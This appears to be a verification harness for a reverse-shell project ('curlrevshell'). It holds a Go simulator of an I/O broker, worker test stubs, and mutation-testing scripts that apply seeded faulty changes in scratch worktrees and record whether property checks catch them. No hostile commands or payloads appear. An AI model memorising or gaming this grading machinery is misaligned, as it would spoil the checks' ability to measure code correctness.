// pendingLines is the number of entered lines no input stream has taken yet.
func (s *sim) pendingLines() int { return len(s.entered) - s.taken() }

// taken is the number of lines taken out of the operator's hands (sent on ich).
func (s *sim) taken() int { return s.feeder.sent - len(s.ich) }

func (s *sim) ctxDying(h *half) bool {
	if h.att.cancelled {
		return true
	}
	if _, ok := s.mustEnd[h]; ok {
		return true
	}
	return s.shutdown && s.cfg.DeriveCtx
}

// coinRisk reports whether applying a would let the input proxy reach its
// select with both a line and a finished context ready (the runtime then
// flips a coin the seed does not control).
func (s *sim) coinRisk(a Action) bool {
	in := s.liveIn()
	linesWaiting := s.pendingLines() > 0
	// an input half that is still on its way in (parked at or inside its
	// admission section) will reach its first select later
	var arriving []*half
	for _, at := range s.atts {
		if at.in != nil && !at.returned && !at.in.attachedR && !at.in.doneR {
			arriving = append(arriving, at.in)
		}
	}
	switch a.K {
	case "enter":
		for _, h := range arriving {
			if s.ctxDying(h) {
				return true
			}
		}
		return in != nil && !in.proxyEnded && s.ctxDying(in)
	case "cancel":
		at := s.att(a.A)
		if at == nil || at.in == nil {
			return false
		}
		if at.in.site == "" || at.in.site == "admit" || at.in.site == "admitting" {
			return true // would be admitted with a finished context
		}
		return at.in.attachedR && !at.in.proxyEnded && linesWaiting
	case "grant":
		h := s.half(a.A, a.D)
		if h == nil {
			return false
		}
		if a.S == "release" && h.dir == dirOut && in != nil && !in.proxyEnded && linesWaiting {
			return true
		}
		if a.S == "admit" && h.dir == dirIn && s.ctxDying(h) {
			return true
		}
		return false
	case "shutdown":
		if !s.cfg.DeriveCtx {
			return false
		}
		if !s.cfg.AutoDrain && in != nil && s.liveOut() != nil {
			return true // two closure notices would race for the operator's next receive
		}
		if len(arriving) > 0 {
			return true
		}
		return in != nil && !in.proxyEnded && linesWaiting
	case "start_in", "start_io", "burst_io":
		return s.shutdown && s.cfg.DeriveCtx && !s.shutDone
	}
	return false
}

// consumedByModel is the number of entered lines the FIFO model has seen
// written (completely or not) so far.
func (s *sim) consumedByModel() int { return s.nextLine }

// precond says whether a is enabled in the current state.
func (s *sim) precond(a Action) error {
	switch a.K {
	case "drain_events":
		if !s.cfg.LazyListener || len(s.listen) == 0 {
			return errors.New("no lazy listener")
		}
		return nil
	case "close_trans":
		at := s.att(a.A)
		if at == nil || !at.returned || at.closedTrans || at.closeDue {
			return errors.New("nothing to close")
		}
		return nil
	case "start_in", "start_out", "start_io", "burst_io":
		if len(s.atts) >= 250 {
			return errors.New("too many attempts")
		}
		if a.K == "burst_io" && (a.C < 2 || a.C > 8) {
			return errors.New("burst size")
		}
		if a.K != "start_out" {
			switch a.S {
			case "plain", "flusher", "flusherr", "both":
			default:
				return fmt.Errorf("unknown writer kind %q", a.S)
			}
		}
	case "grant":
		if a.S == "log" {
			h := s.half(a.A, a.D)
			if h == nil || h.logPark == nil {
				return errors.New("not parked in a log call")
			}
			if s.busy != h {
				return errors.New("another lock section is in progress")
			}
			return nil
		}
		if s.busy != nil && s.busy.logPark == nil {
			// the shutdown goroutine alone may be let go while a lock section
			// is blocked on the stalled terminal: code that takes the lock
			// waits for it (quiesce copes with that one mutex wait)
			if !(a.S == "shutdown" && s.cfg.HeldShut && len(s.busyStack) == 1 && s.shutPark != nil) {
				return errors.New("a lock section is in progress")
			}
		}
		if len(s.busyStack) >= 3 {
			return errors.New("too many nested lock sections")
		}
		if a.S == "shutdown" {
			if s.shutPark == nil {
				return errors.New("no shutdown park")
			}
			return nil
		}
		h := s.half(a.A, a.D)
		if h == nil || h.park == nil || h.park.site != a.S {
			return errors.New("not parked there")
		}
	case "enter":
		if s.inputClosed {
			return errors.New("input closed")
		}
	case "close_input":
		if s.inputClosed {
			return errors.New("already closed")
		}
	case "recv":
		if s.cfg.AutoDrain {
			return errors.New("auto-drain run")
		}
	case "read_done":
		at := s.att(a.A)
		if at == nil || at.r == nil || at.r.parked == nil || at.r.closed {
			return errors.New("no parked read")
		}
	case "write_done":
		at := s.att(a.A)
		if at == nil || at.w == nil || at.w.parked == nil || at.w.parked.kind != "W" {
			return errors.New("no parked write")
		}
	case "flush_done":
		at := s.att(a.A)
		if at == nil || at.w == nil || at.w.parked == nil || at.w.parked.kind != "F" {
			return errors.New("no parked flush")
		}
		if a.S != "" && at.w.kind == "flusher" {
			return errors.New("Flush() cannot fail")
		}
	case "cancel":
		at := s.att(a.A)
		if at == nil || at.cancelled || at.returned {
			return errors.New("nothing to cancel")
		}
	case "shutdown":
		if s.shutdown {
			return errors.New("already shut down")
		}
	default:
		return fmt.Errorf("unknown action %q", a.K)
	}
	if s.cfg.Strict && s.coinRisk(a) {
		return errors.New("strict mode: step would go through a runtime select coin")
	}
	return nil
}

// apply applies exactly one stimulus.
func (s *sim) apply(a Action) {
	if !s.cfg.Strict && s.coinRisk(a) {
		s.probes["coin_steps"]++
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	switch a.K {
	case "start_in":
		at := s.newAttempt("in")
		at.idKey = string(a.B)
		at.in = &half{att: at, dir: dirIn, plainHi: -1}
		s.mkWriter(at, a)
		w := at.w.iface()
		s.spawn(at, func() { s.b.ConnectIn(at.ctx, s.logger(at), at.addr, w, at.idKey) })
	case "start_out":
		at := s.newAttempt("out")
		at.idKey = string(a.B)
		at.out = &half{att: at, dir: dirOut, plainHi: -1}
		at.r = &simReader{s: s, att: at}
		s.spawn(at, func() { s.b.ConnectOut(at.ctx, s.logger(at), at.addr, at.r, at.idKey) })
	case "start_io":
		at := s.newAttempt("io")
		at.in = &half{att: at, dir: dirIn, plainHi: -1}
		at.out = &half{att: at, dir: dirOut, plainHi: -1}
		s.mkWriter(at, a)
		at.r = &simReader{s: s, att: at}
		w := at.w.iface()
		s.spawn(at, func() { s.b.ConnectInOut(at.ctx, s.logger(at), at.addr, w, at.r) })
		s.probes["io_attempts"]++
	case "burst_io":
		// several requests within one step: their set-up code (everything up
		// to the first serialisation point) runs concurrently
		for i := 0; i < a.C; i++ {
			at := s.newAttempt("io")
			at.in = &half{att: at, dir: dirIn, plainHi: -1}
			at.out = &half{att: at, dir: dirOut, plainHi: -1}
			s.mkWriter(at, a)
			at.r = &simReader{s: s, att: at}
			w := at.w.iface()
			s.spawn(at, func() { s.b.ConnectInOut(at.ctx, s.logger(at), at.addr, w, at.r) })
			s.probes["io_attempts"]++
		}
		s.probes["io_bursts"]++
	case "drain_events":
		s.evDrainDue = true
		if !s.shutdown {
			s.lazyReadStep = s.step - 1 // what happened before this step is certainly delivered by it
		}
		s.probes["lazy_listener_read"]++
	case "close_trans":
		s.att(a.A).closeDue = true
		s.probes["transport_closed_late"]++
	case "grant":
		if a.S == "shutdown" {
			p := s.shutPark
			s.shutPark = nil
			s.m.shutdown = true
			s.shutDone = true
			if s.busy != nil {
				s.heldShut = true
				s.probes["shutdown_while_lock_section_blocked"]++
			}
			close(p.ch)
			return
		}
		h := s.half(a.A, a.D)
		if a.S == "log" {
			p := h.logPark
			h.logPark = nil
			for i, q := range s.parks {
				if q == p {
					s.parks = append(s.parks[:i], s.parks[i+1:]...)
					break
				}
			}
			s.probes["log_window_explored"]++
			close(p.ch)
			return
		}
		p := h.park
		h.park = nil
		for i, q := range s.parks {
			if q == p {
				s.parks = append(s.parks[:i], s.parks[i+1:]...)
				break
			}
		}
		s.busy = h
		s.busyStack = append(s.busyStack, h)
		h.logParked = false
		if a.S == "admit" {
			h.site = "admitting"
			h.admitStep = s.step
			h.expect, h.reasons = s.m.verdict(h)
			if h.expect == "attach" {
				if s.m.gen == nil {
					s.probes["generations"]++
				}
				s.m.attach(h, s.step)
				h.plainLo = len(s.recv) + len(s.och)
				if s.m.tearing {
					s.harnessErr = "model attached during tear-down"
				}
			} else if s.m.tearing {
				s.probes["attempt_in_teardown_window"]++
			}
			if s.m.shutdown {
				s.probes["attempt_in_shutdown"]++
			}
		} else {
			h.site = "releasing"
			h.released = true
			h.releaseStep = s.step
			if h.admitted || h.attachedR {
				other, over := s.m.release(h, s.step)
				if other != nil {
					s.mustEnd[other] = s.step
					if !other.proxyEnded {
						other.cancelCause = true
					}
					s.probes["teardown_window_entered"]++
				}
				_ = over
				delete(s.mustEnd, h)
			}
		}
		close(p.ch)
	case "enter":
		s.entered = append(s.entered, append([]byte(nil), a.B...))
		s.feeder.queue = append(s.feeder.queue, a.B)
		select {
		case s.feeder.wake <- struct{}{}:
		default:
		}
	case "close_input":
		s.inputClosed = true
		s.feeder.closeIt = true
		s.fault("input_closed")
		select {
		case s.feeder.wake <- struct{}{}:
		default:
		}
	case "recv":
		s.mu.Unlock()
		select {
		case cl := <-s.och:
			s.mu.Lock()
			s.record(cl)
		default:
			s.mu.Lock()
			s.probes["recv_empty"]++
		}
	case "read_done":
		at := s.att(a.A)
		if a.S != "" {
			s.fault("read_" + a.S)
			if len(a.B) > 0 {
				s.probes["data_with_terminal_error"]++
			}
			at.out.endedByErr = !normalEnd(a.S)
		}
		if len(a.B) > 2048 {
			s.probes["read_burst_over_2k"]++
		}
		at.r.release(a.B, a.S, a.N)
		if a.N >= 1 {
			s.faults["read_zero_len"] += int64(a.N)
		}
		if a.N > 1 {
			s.probes["zero_len_read_runs"]++
		}
	case "write_done":
		at := s.att(a.A)
		if a.S != "" {
			s.fault("write_" + a.S)
		}
		at.w.complete(a.S)
	case "flush_done":
		at := s.att(a.A)
		if a.S != "" {
			s.fault("flush_err")
		}
		at.w.complete(a.S)
	case "cancel":
		at := s.att(a.A)
		at.cancelled = true
		s.fault("client_cancel")
		for _, h := range at.halves() {
			if h.attachedR && !h.proxyEnded {
				h.cancelCause = true
				s.mustEnd[h] = s.step
			}
		}
		if o := s.liveOut(); o != nil && o.att == at && s.floodStalled(o) {
			s.probes["cancel_under_flood_stalled"]++
		}
		at.cancel()
	case "shutdown":
		s.shutdown = true
		s.shutdownStep = s.step
		s.fault("shutdown")
		if s.cfg.DeriveCtx {
			for _, at := range s.atts {
				for _, h := range at.halves() {
					if h.attachedR && !h.proxyEnded {
						h.cancelCause = true
						s.mustEnd[h] = s.step
					}
				}
			}
		}
		s.bcancel()
	}
}

// floodStalled: the output half has data waiting behind a blocked operator
// channel.
func (s *sim) floodStalled(h *half) bool {
	return h.att.r != nil && h.att.r.parked == nil && len(s.och) == cap(s.och) && !s.cfg.AutoDrain
}

// quiesce waits until nothing in the bubble can run.  After the shutdown was
// let go while a lock section was blocked, its goroutine may wait for the
// broker's lock, which synctest does not count as blocked: those steps poll.
func (s *sim) quiesce() {
	if s.heldShut {
		n, ok := simkit.WaitAllowMutex()
		if !ok {
			s.harnessErr = "no quiescence (with a mutex waiter tolerated) within ten seconds"
			return
		}
		if n > 0 {
			s.probes["steps_with_shutdown_waiting_for_lock"]++
			s.polled = true
			return
		}
		s.heldShut = false
	}
	s.polled = false
	synctest.Wait()
}

// settle runs the code to quiescence and collects what happened.
func (s *sim) settle() {
	for i := 0; ; i++ {
		s.quiesce()
		again := false
		s.mu.Lock()
		// callers that have returned: their transports are now closed, as
		// net/http does when a handler returns
		for _, at := range s.atts {
			if at.wrapperDone && !at.returned {
				at.returned = true
				at.returnedStep = s.step
				s.obs("ret %d", at.id)
			}
			if at.returned && !at.closedTrans && (!s.cfg.LateClose || s.draining || s.tearingDown || at.closeDue) {
				at.closedTrans = true
				s.leakDue = true
				if at.w != nil {
					at.w.closeNow()
				}
				if at.r != nil {
					at.r.closeNow()
				}
				again = true
			}
		}
		s.mu.Unlock()
		if s.cfg.AutoDrain || s.draining {
			for {
				select {
				case cl := <-s.och:
					s.mu.Lock()
					s.record(cl)
					s.mu.Unlock()
					again = true
					continue
				default:
				}
				break
			}
		}
		if s.cfg.LazyListener && len(s.listen) > 0 && (s.draining || s.evDrainDue) {
			for {
				select {
				case ev := <-s.listen[0]:
					s.mu.Lock()
					s.events[0] = append(s.events[0], ev.Type)
					if !s.shutdown {
						// after the shutdown the event loop chooses between its
						// queue and its finished context by the runtime's coin:
						// what still arrives is judged, but kept out of the trace
						s.obs("ev0 %s", ev.Type)
					}
					s.mu.Unlock()
					again = true
					continue
				default:
				}
				break
			}
		}
		if !again {
			break
		}
		if i > 10000 {
			s.harnessErr = "settle does not converge"
			break
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.evDrainDue = false
	if s.doRet && s.doRetAt == 0 {
		s.doRetAt = s.step
		s.obs("do returned")
	}
	s.harvestLogs()
	for i, ch := range s.listen {
		if i == 0 && s.cfg.LazyListener {
			continue // a listener that is behind: its channel is small and read only at drain_events steps (above)
		}
		for {
			select {
			case ev := <-ch:
				s.events[i] = append(s.events[i], ev.Type)
				s.obs("ev%d %s", i, ev.Type)
				continue
			default:
			}
			break
		}
	}
	// callers that parked during the same step arrived in scheduler order:
	// give the list a canonical order before anything is chosen from it
	sort.SliceStable(s.parks, func(i, j int) bool {
		a, b := s.parks[i], s.parks[j]
		if a.h.att.id != b.h.att.id {
			return a.h.att.id < b.h.att.id
		}
		return a.h.dir < b.h.dir
	})
	npark := 0
	for _, p := range s.parks {
		s.obs("park %s@%s", p.h.name(), p.site)
		npark++
	}
	if npark >= 2 {
		s.nontrivial = true
	}
	if s.shutPark != nil {
		s.obs("park shutdown")
	}
	for _, at := range s.atts {
		for _, h := range at.halves() {
			if h.key != "" && at.kind == "io" {
				s.bidirKeys[h.key] = true
			}
		}
	}
}

// noteState records the abstract state and the (state, action kind) pair.
func (s *sim) noteState(a Action) {
	occ := 0
	if s.m.in != nil {
		occ |= 1
	}
	if s.m.out != nil {
		occ |= 2
	}
	admit, rel := 0, 0
	for _, p := range s.parks {
		if p.site == "admit" {
			admit++
		} else {
			rel++
		}
	}
	if admit > 3 {
		admit = 3
	}
	wp := 0
	if in := s.liveIn(); in != nil && in.att.w.parked != nil {
		wp = 1
	}
	full := 0
	if len(s.och) == cap(s.och) && !s.cfg.AutoDrain {
		full = 1
	}
	st := fmt.Sprintf("occ%d tear%v shut%v/%v adm%d rel%d wp%d full%d pend%v busy%v inclosed%v",
		occ, s.m.tearing, s.shutdown, s.m.shutdown, admit, rel, wp, full, s.pendingLines() > 0, s.busy != nil, s.inputClosed)
	s.states.Add(simkit.Hash64(st))
	s.trans.Add(simkit.Hash64(st, a.K, a.S))
}

// fault counts an injected fault (faults of the closing phase, which only lets
// things finish, are not counted).
func (s *sim) fault(name string) {
	if s.draining {
		return
	}
	s.faults[name]++
	s.nontrivial = true
}
