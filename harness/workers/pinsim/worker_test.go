package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/pinsim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, pinsim.Engine{}) }
