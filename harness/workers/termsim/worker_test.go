package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
	"github.com/magisterquis/curlrevshell/verifharness/termsim"
)

func TestWorker(t *testing.T) {
	simkit.EnsureTTY()
	simkit.WorkerMain(t, termsim.Engine{})
}
