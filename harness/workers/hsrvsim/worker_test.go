package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/hsrvsim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, hsrvsim.Engine{}) }
