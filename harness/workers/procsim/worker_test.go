package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/procsim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, procsim.Engine{}) }
