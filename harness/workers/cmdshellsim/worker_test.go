package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/cmdshellsim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, cmdshellsim.Engine{}) }
