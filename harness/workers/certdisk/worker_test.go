package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/certdisk"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, certdisk.Engine{}) }
