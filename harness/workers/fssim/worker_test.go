package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/fssim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, fssim.Engine{}) }
