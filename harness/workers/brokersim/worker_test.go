package worker

import (
	"testing"

	"github.com/magisterquis/curlrevshell/verifharness/brokersim"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func TestWorker(t *testing.T) { simkit.WorkerMain(t, brokersim.Engine{}) }
