#!/bin/sh
# Builds the orchestrator and warms the build cache with every worker binary.
# Offline: uses only the module cache and /repo.
set -e
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local CGO_ENABLED=0
GO=go1.26.8
command -v $GO >/dev/null 2>&1 || GO=/opt/veriftools/go1.26.8/bin/go
cd /verif/harness
cp /repo/go.sum go.sum 2>/dev/null || true
mkdir -p /verif/bin /verif/build /verif/evidence /verif/replays
$GO build -o /verif/bin/check ./cmd/check
for w in workers/*/; do
	n=$(basename "$w")
	$GO test -c -tags verif -o /verif/build/$n.test ./workers/$n
done
echo "setup ok"
