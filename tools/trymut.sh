#!/bin/bash
# usage: trymut.sh <name> <patch.diff> <property> [more properties...]
# Applies a seeded change to a scratch worktree of /repo (never to /repo itself), runs the
# repository's own suite on it (must still pass) and then the named checks against it.
# Prints one line per check: CAUGHT / MISSED / TROUBLE.  Removes the worktree afterwards.
set -u
name=$1; patch=$(realpath "$2"); shift 2
W=/tmp/mutrun/$name
rm -rf "$W"; mkdir -p /tmp/mutrun
git -C /repo worktree add --detach "$W" HEAD >/dev/null 2>&1 || { echo "TROUBLE worktree"; exit 2; }
trap 'git -C /repo worktree remove --force "$W" >/dev/null 2>&1; rm -rf "$W" /tmp/mutrun/$name.ev /tmp/mutrun/$name.rp' EXIT
( cd "$W" && git apply "$patch" ) || { echo "TROUBLE patch does not apply: $patch"; exit 2; }
( cd "$W" && go build ./... && go test -vet=off -count=1 ./... >/tmp/mutrun/$name.suite.log 2>&1 ) || { echo "SUITE-FAILS $name (see /tmp/mutrun/$name.suite.log)"; exit 3; }
for prop in "$@"; do
  out=$(cd /verif && VERIF_REPO="$W" VERIF_EVIDENCE_DIR=/tmp/mutrun/$name.ev VERIF_REPLAY_DIR=/tmp/mutrun/$name.rp ./bin/check run "$prop" --tier quick 2>&1); rc=$?
  case $rc in
    1) echo "CAUGHT $name by $prop: $(echo "$out" | grep '^violation' | head -3 | tr '\n' '|' | cut -c1-400)";;
    0) echo "MISSED $name by $prop: $(echo "$out" | tail -1 | cut -c1-200)";;
    *) echo "TROUBLE $name by $prop (exit $rc): $(echo "$out" | tail -3 | tr '\n' '|' | cut -c1-600)";;
  esac
done
