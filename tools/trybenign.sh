#!/bin/bash
# usage: trybenign.sh <name> <patch.diff>
# Applies a behaviour-preserving change to a scratch worktree of /repo, runs the repository's own
# suite on it and then every check whose engines run the packages the change touches.  Every
# check must exit 0: an alarm on such a change is a false alarm of the machinery.
set -u
name=$1; patch=$(realpath "$2")
W=/tmp/mutrun/$name
rm -rf "$W"; mkdir -p /tmp/mutrun
git -C /repo worktree add --detach "$W" HEAD >/dev/null 2>&1 || { echo "TROUBLE worktree"; exit 2; }
trap 'git -C /repo worktree remove --force "$W" >/dev/null 2>&1; rm -rf "$W" /tmp/mutrun/$name.ev /tmp/mutrun/$name.rp' EXIT
( cd "$W" && git apply "$patch" ) || { echo "TROUBLE $name patch does not apply"; exit 2; }
( cd "$W" && go build ./... && go test -vet=off -count=1 ./... >/tmp/mutrun/$name.suite.log 2>&1 ) || { echo "SUITE-FAILS $name (see /tmp/mutrun/$name.suite.log)"; exit 3; }
files=$(grep '^+++ b/' "$patch" | sed 's#^+++ b/##')
props=""
for f in $files; do case $f in
  internal/iobroker/*) props="$props C01 C02 C03 C04 C06 C11";;
  internal/hsrv/*) props="$props C01 C02 C03 C04 C05 C07 C11 C12";;
  lib/sstls/*) props="$props C05 C08 C20";;
  lib/opshell/*) props="$props C19 C02 C03 C04 C20";;
  lib/simpleshell/*) props="$props C13 C14";;
  lib/shellfuncsfile/*) props="$props C17 C19";;
  *.go) props="$props C20 C12 C11 C08";;
esac; done
props=$(echo $props | tr ' ' '\n' | sort -u | tr '\n' ' ')
for prop in $props; do
  out=$(cd /verif && VERIF_REPO="$W" VERIF_EVIDENCE_DIR=/tmp/mutrun/$name.ev VERIF_REPLAY_DIR=/tmp/mutrun/keep.$name.rp ./bin/check run "$prop" --tier quick 2>&1); rc=$?
  case $rc in
    0) echo "QUIET $name $prop";;
    1) echo "ALARM $name by $prop: $(echo "$out" | grep -E '^violation|^VIOLATION' | head -4 | tr '\n' '|' | cut -c1-600)";;
    *) echo "TROUBLE $name by $prop (exit $rc): $(echo "$out" | tail -3 | tr '\n' '|' | cut -c1-600)";;
  esac
done
