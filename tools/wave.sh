#!/bin/bash
# usage: wave.sh <wave tag, e.g. w4> <PROP>...   - verifies the three changes an agent left in /tmp/mut/<PROP>/_mutants
# (verifymut.sh) and runs each verified one through the check of its property (trymut.sh).
tag=$1; shift
for P in "$@"; do
  d=/tmp/mut/$P/_mutants
  for n in 1 2 3 4; do
    [ -f $d/m$n.diff ] || continue
    v=$(/verif/tools/verifymut.sh $d $n 2>&1 | tail -1)
    echo "$P $v"
    case "$v" in *demo-without=pass*suite-with=pass*fails-as-required*) /verif/tools/trymut.sh $P-${tag}m$n $d/m$n.diff $P 2>&1 | cut -c1-400;; esac
  done
done
