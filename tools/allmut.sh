#!/bin/bash
# Runs every kept seeded change (seeded/*/patch.diff, mutants/*.patch) through the check of its
# property (scratch worktrees, never /repo itself) and prints CAUGHT / MISSED per change.  A few
# changes break another property than the one their author aimed at (see their meta.json): for
# those the other property's check is run as well, and that is the one expected to report.
cd /verif
( for d in seeded/*/; do n=$(basename $d); p=$(python3 -c "import json;print(json.load(open('$d/meta.json'))['property'])"); extra=""; case $n in C01-m3|C01-w3m2|C01-w4m1|C01-w8m2) extra="C06";; C11-w4m1|C11-w5m1|C11-w7m2) extra="C03";; C05-w4m1|C20-w7m3) extra="C08";; C05-w7m4) extra="C12";; C08-w7m4) extra="C20";; esac; echo "$n ${d}patch.diff $p $extra" | sed 's/ *$//'; done
  for f in mutants/*.patch; do n=$(basename $f .patch); echo "own-$n $f ${n%%-*}"; done ) | xargs -P ${PAR:-2} -L 1 bash -c './tools/trymut.sh "$@"' _ 2>&1 | grep -E "CAUGHT|MISSED|TROUBLE|SUITE" | cut -c1-220
