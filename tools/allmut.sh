#!/bin/bash
# Runs every kept seeded change (seeded/*/patch.diff, mutants/*.patch) through the check of its
# property (scratch worktrees, never /repo itself) and prints CAUGHT / MISSED per change.
cd /verif
( for d in seeded/*/; do n=$(basename $d); p=$(python3 -c "import json;print(json.load(open('$d/meta.json'))['property'])"); extra=""; case $n in C01-m3|C01-w3m2) extra="C06";; esac; echo "$n ${d}patch.diff $p $extra" | sed 's/ *$//'; done
  for f in mutants/*.patch; do n=$(basename $f .patch); echo "own-$n $f ${n%%-*}"; done ) | xargs -P ${PAR:-2} -L 1 bash -c './tools/trymut.sh "$@"' _ 2>&1 | grep -E "CAUGHT|MISSED|TROUBLE|SUITE" | cut -c1-220
