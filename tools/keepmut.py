#!/usr/bin/env python3
# usage: keepmut.py <agent dir> <N> <PROP> <name> "<caught by ...>"   - files a verified seeded change under /verif/seeded/<name>/
import json,sys,shutil,os,subprocess
d,n,prop,name,caught=sys.argv[1:6]
out=f'/verif/seeded/{name}'
os.makedirs(out,exist_ok=True)
shutil.copy(f'{d}/m{n}.diff',f'{out}/patch.diff')
shutil.copy(f'{d}/m{n}_demo_test.go',f'{out}/demo_test.go')
m=json.load(open(f'{d}/m{n}.json'))
head=subprocess.run(['git','-C','/repo','rev-parse','--short','HEAD'],capture_output=True,text=True).stdout.strip()
meta={"property":prop,"breaks":m.get('summary'),"needs_to_manifest":m.get('needs'),"sites":m.get('sites'),
 "demonstration":{"file":"demo_test.go","copy_into":m.get('demo_dir'),"command":m.get('demo_cmd')},
 "written_by":"independent sub-agent given only the property text and a scratch worktree",
 "verified_by_me":f"tools/verifymut.sh on a scratch worktree of /repo at {head}: demo passes without the change; change applies; go build ./... and the full suite (go test -vet=off -count=1 ./...) pass with it; demo fails with it",
 "checks_run":f"tools/trymut.sh (scratch worktree, VERIF_REPO): {caught}"}
json.dump(meta,open(f'{out}/meta.json','w'),indent=1)
print('kept',out)
