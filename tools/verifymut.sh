#!/bin/bash
# usage: verifymut.sh <dir with mN.diff mN.json mN_demo_test.go> <N>
# Confirms, in a scratch worktree of /repo: the demo passes without the change, the change
# applies, the repository's own suite still passes with it, and the demo fails with it.
set -u
d=$(realpath "$1"); n=$2
W=/tmp/mutrun/verify-$$-$n
git -C /repo worktree add --detach "$W" HEAD >/dev/null 2>&1 || { echo "TROUBLE worktree"; exit 2; }
trap 'git -C /repo worktree remove --force "$W" >/dev/null 2>&1; rm -rf "$W"' EXIT
dir=$(python3 -c "import json;print(json.load(open('$d/m$n.json'))['demo_dir'])")
cmd=$(python3 -c "import json;print(json.load(open('$d/m$n.json'))['demo_cmd'])")
cp "$d/m${n}_demo_test.go" "$W/$dir/zz_m${n}_demo_test.go" || exit 2
( cd "$W" && timeout 300 bash -c "$cmd" >/tmp/mutrun/v.$$.a 2>&1 ); a=$?
( cd "$W" && git apply "$d/m$n.diff" ) || { echo "m$n: PATCH-DOES-NOT-APPLY"; exit 3; }
rm "$W/$dir/zz_m${n}_demo_test.go"
( cd "$W" && go build ./... && timeout 300 go test -vet=off -count=1 -timeout 120s ./... >/tmp/mutrun/v.$$.s 2>&1 ); s=$?
cp "$d/m${n}_demo_test.go" "$W/$dir/zz_m${n}_demo_test.go"
( cd "$W" && timeout 300 bash -c "$cmd" >/tmp/mutrun/v.$$.b 2>&1 ); b=$?
echo "m$n: demo-without=$([ $a = 0 ] && echo pass || echo FAIL) suite-with=$([ $s = 0 ] && echo pass || echo FAIL) demo-with=$([ $b != 0 ] && echo fails-as-required || echo PASSES)"
rm -f /tmp/mutrun/v.$$.*
[ $a = 0 ] && [ $s = 0 ] && [ $b != 0 ]
